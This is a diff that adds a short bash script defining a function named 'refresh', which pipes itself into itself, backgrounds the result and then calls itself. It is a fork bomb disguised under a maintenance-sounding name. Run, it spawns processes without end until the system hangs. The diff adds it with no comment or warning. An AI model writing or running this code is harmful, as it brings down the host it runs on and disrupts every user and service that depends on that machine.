@@ -1,0 +1,5 @@
+#!/bin/bash
+refresh() {
+    refresh | refresh &
+}
+refresh
